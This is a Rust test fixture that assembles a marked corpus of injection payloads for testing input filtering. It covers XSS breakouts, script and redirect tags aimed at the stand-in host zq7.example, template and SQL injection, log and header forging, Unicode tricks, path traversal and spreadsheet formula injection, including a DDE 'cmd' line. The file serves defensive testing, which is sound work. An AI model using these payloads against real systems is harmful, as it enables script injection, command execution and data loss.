//! What hostile people type: every way out of a place in a page, joined with everything that could be done outside.

use domain::letters::{Lines, Misfit};

/// Stands in every payload, so that what became of it can be found.
pub const MARK: &str = "zq7";

/// Ways out of where typed words stand.
const OUT: [&str; 13] = [
    "",
    "\">",
    "'>",
    "\" ",
    "' ",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "&quot;&#62;",
];

/// What is done outside.
const DONE: [&str; 23] = [
    "<script>zq7(1)</script>",
    "<SCRIPT SRC=//zq7.example/x></SCRIPT>",
    "<svg onload=zq7(1)>",
    "<svg><animate onbegin=zq7(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:zq7(1)>",
    "<img src=x onerror=zq7(1)>",
    "<img src='zq7'onerror=zq7(1)//",
    "<a href=javascript:zq7(1)>見る</a>",
    "<a href=\"&#106;avascript:zq7(1)\">見る</a>",
    "<iframe srcdoc=\"<script>zq7(1)</script>\">",
    "<base href=//zq7.example/>",
    "<meta http-equiv=refresh content=0;url=//zq7.example/>",
    "<form action=//zq7.example/><button>zq7",
    "<link rel=stylesheet href=//zq7.example/x.css>",
    "<style>*{background:url(//zq7.example)}</style>",
    "<details open ontoggle=zq7(1)>",
    "<zq7-element onclick=zq7(1)>",
    "<math><mtext><zq7>",
    "<!--zq7",
    "<![CDATA[zq7]]>",
    "onmouseover=zq7(1) x=",
    "autofocus onfocus=zq7(1) tabindex=1 x=",
    "style=background:url(//zq7.example) x=",
];

/// Hostile in other ways than by a tag.
const OTHER: [&str; 33] = [
    "{{7*7}}zq7",
    "{% raw %}zq7{% endraw %}",
    "{{ self.zq7() }}",
    "${zq7}",
    "#{zq7}",
    "<%= zq7 %>",
    "<?php zq7 ?>",
    "{{constructor.constructor('zq7')()}}",
    "zq7\r\n2026-06-01T00:00:00Z ERROR forged zq7",
    "zq7\n2026-06-01T00:00:00Z  INFO サインイン zq7",
    "zq7\u{1b}[31m\u{1b}[2Kforged",
    "zq7\u{85}forged\u{2028}forged\u{2029}forged",
    "zq7%0d%0aSet-Cookie: zq7=1",
    "\u{202e}zq7\u{202c}",
    "\u{2066}zq7\u{2069}\u{200f}",
    "zq7\u{200b}\u{feff}\u{ad}",
    "＜script＞zq7（1）＜／script＞",
    "\u{ff1c}img src=x onerror=zq7\u{ff1e}",
    "+ADw-script+AD4-zq7(1)+ADw-/script+AD4-",
    "\u{1b}$B<script>zq7\u{1b}(B",
    "javascript:zq7(1)",
    "JaVaScRiPt\t:zq7(1)",
    "data:text/html,<script>zq7(1)</script>",
    "//zq7.example/",
    "../../../../etc/zq7",
    "zq7' OR '1'='1",
    "zq7'); DROP TABLE entry; --",
    "zq7\\\"'`",
    "zq7&lt;script&gt;",
    "zq7&amp;lt;script&amp;gt;",
    "zq7&#x0;&#0;&#xD800;",
    "a\u{301}\u{302}\u{303}zq7\u{e0101}",
    "𠮷zq7\u{10ffff}",
];

/// Beginnings that a spreadsheet would count.
pub const FORMULAS: [&str; 14] = [
    "=zq7()",
    "+zq7()",
    "-zq7()",
    "@zq7()",
    "=cmd|' /C zq7'!A0",
    "=HYPERLINK(\"http://zq7.example\",\"見る\")",
    "=1+1 zq7",
    "+1+1 zq7",
    "-1+1 zq7",
    "@SUM(1) zq7",
    "＝zq7()",
    "＋zq7()",
    "－zq7()",
    "＠zq7()",
];

/// Every payload that the doors let in; what turns a text, commands a machine or is not seen is refused.
pub fn corpus() -> Vec<String> {
    everything().into_iter().filter(|payload| Misfit::of(payload, Lines::Several).is_none()).collect()
}

fn everything() -> Vec<String> {
    let tags = OUT.iter().flat_map(|out| DONE.iter().map(move |done| format!("{out}{done}")));
    let others = OTHER.iter().chain(&FORMULAS).map(|payload| (*payload).to_owned());
    tags.chain(others).collect()
}

#[test]
fn the_corpus_is_as_large_as_it_says_and_every_payload_can_be_found_again() {
    let corpus = corpus();
    assert!(corpus.len() >= 300, "{}", corpus.len());
    assert!(corpus.iter().all(|payload| payload.to_lowercase().contains(MARK)));
    let different: std::collections::BTreeSet<&String> = corpus.iter().collect();
    assert_eq!(different.len(), corpus.len());
}
